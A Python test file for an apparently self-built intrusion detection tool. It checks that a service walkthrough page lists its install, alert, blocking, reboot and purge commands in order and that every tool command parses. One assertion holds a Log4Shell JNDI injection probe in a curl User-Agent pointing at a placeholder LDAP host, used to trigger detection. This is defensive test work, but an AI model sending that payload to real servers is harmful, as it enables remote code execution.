"""docs/service.md and the test of the package are one story: no command of the page goes untried, no step is unsaid."""

from __future__ import annotations

import re
import shlex

import click
import pytest

from ids.cli import cli
from tests.packages import trials
from tests.packages.page import PAGE, Command, sections
from tests.packages.story import STEPS, title_of
from tests.packages.walk import Walk

SECTIONS = sections()
COMMANDS = [command for commands in SECTIONS.values() for command in commands]


def test_every_section_of_the_walk_through_is_a_step_in_its_order() -> None:
    assert list(SECTIONS) == [step for step in STEPS if isinstance(step, str)]
    assert all(SECTIONS.values()), "and has commands"
    for title in SECTIONS:
        assert callable(getattr(Walk, title.lower().replace(" ", "_"))), title


def test_the_walk_through_is_an_operators_first_month() -> None:
    text = "\n".join(command.text for command in COMMANDS)
    at = [text.index(command) for command in (
        "apt-get install", "ids init", "systemctl enable --now ids", "jndi", "ids why", "ids block delete",
        "exceptions:", "systemctl reboot", "apt-get purge",
    )]  # fmt: skip
    assert at == sorted(at)
    assert [command.text for command in COMMANDS].count("apt-get install ./ids_*.deb") == 2, "then an upgrade"
    assert Command("curl -m 3 -A '${jndi:ldap://198.51.100.9/a}' http://192.0.2.1:8080/", "192.0.2.77") in COMMANDS


@pytest.mark.parametrize("command", [command for command in COMMANDS if command.text.startswith("ids ")])
def test_every_command_of_ours_is_one_that_would_be_taken(command: Command) -> None:
    words = shlex.split(command.text, comments=True)[1:]
    group: click.Command = cli
    while isinstance(group, click.Group):
        found = group.get_command(click.Context(group), words[0])
        assert found is not None, command.text
        group = found
        words = words[1:]
    group.make_context(group.name, words).close()


def test_every_trial_is_a_step_and_a_line_of_the_page() -> None:
    page = PAGE.read_text()
    steps = [step for step in STEPS if not isinstance(step, str)]
    defined = [each for each in vars(trials).values() if getattr(each, "__module__", "") == trials.__name__]
    assert set(steps) == set(defined)
    assert [title_of(step) for step in steps if f"| {title_of(step)} | {step.__doc__} |" not in page] == []


def test_how_long_each_step_took_is_on_the_page() -> None:
    rows = dict(re.findall(r"^\| ([^|]+) \|((?: \d+\.\d \|){2})$", PAGE.read_text(), re.MULTILINE))
    assert list(rows) == [title_of(step) for step in STEPS]
